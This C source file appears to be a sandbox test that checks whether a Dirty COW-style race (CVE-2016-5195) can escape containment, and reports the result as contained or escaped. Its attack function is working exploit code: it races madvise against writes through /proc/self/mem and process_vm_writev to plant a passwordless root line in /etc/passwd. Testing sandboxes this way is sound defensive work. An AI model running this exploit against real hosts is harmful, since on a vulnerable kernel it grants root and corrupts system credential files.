/* tries: Dirty COW and its relatives: writes through /proc/self/mem and process_vm_writev into a
   private read-only mapping of an image file, against madvise(MADV_DONTNEED) and munmap + mmap in a
   second thread */
/* must fail because: the host maps image files privately from a read-only descriptor; the sentry's
   own writes go through process_vm_writev, which honours page protection */
/* an escape would: find the page cache of the image file, which all sandboxes share, changed */
/* source: ATTACKS.md V21; CVE-2016-5195 */
#include <pthread.h>

#include <sys/mman.h>
#include <sys/uio.h>

#include "tricks.h"

static char *volatile map;
static volatile int stop;
static int image;

static void *dropper(void *arg)
{
    while (!stop) {
        madvise(map, 4096, MADV_DONTNEED);
        madvise(map, 4096, MADV_COLD);
        if (now_ms() % 7 == 0)
            mmap(map, 4096, PROT_READ, MAP_PRIVATE | MAP_FIXED, image, 0);
    }
    return arg;
}

static int attack(void)
{
    char before[64], after[64];
    pthread_t t;
    image = open("/etc/passwd", O_RDONLY);
    if (image < 0 || pread(image, before, sizeof(before), 0) < 16)
        return cannot("no /etc/passwd of 16 bytes");
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, image, 0);
    if (map == MAP_FAILED || pthread_create(&t, NULL, dropper, NULL) != 0)
        return cannot("no mapping or no thread");
    int mem = open("/proc/self/mem", O_RDWR), tries = 0, changed = 0;
    step("/proc/self/mem: %s", err_name(mem < 0 ? errno : 0));
    char bad[] = "r00t::0:0:pwned:";
    for (long end = now_ms() + 700; now_ms() < end && !changed; tries++) {
        struct iovec l = {bad, 16}, r = {map, 16};
        pwrite(mem, bad, 16, (off_t)(uintptr_t)map);
        process_vm_writev(getpid(), &l, 1, &r, 1, 0);
        ssize_t n = pread(image, after, sizeof(after), 0);
        changed = n >= 16 && memcmp(before, after, 16) != 0;
    }
    stop = 1;
    pthread_join(t, NULL);
    int again = open("/etc/passwd", O_RDONLY);
    changed |= pread(again, after, sizeof(after), 0) >= 16 && memcmp(before, after, 16) != 0;
    if (changed)
        return escaped("the image's file reads differently after %d tries", tries);
    return contained("%d tries, the file reads as before", tries);
}

static int twin(void)
{
    int fd = open("/etc/passwd", O_RDONLY);
    char c, *m = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
    if (m == MAP_FAILED)
        return broken("a private writable mapping: %s", err_name(errno));
    char old = m[0];
    m[0] = '#';
    if (pread(fd, &c, 1, 0) != 1 || c != old || m[0] != '#')
        return broken("copy on write does not keep the two apart");
    return works("a private mapping is written, the file stays");
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv, attack, twin);
}
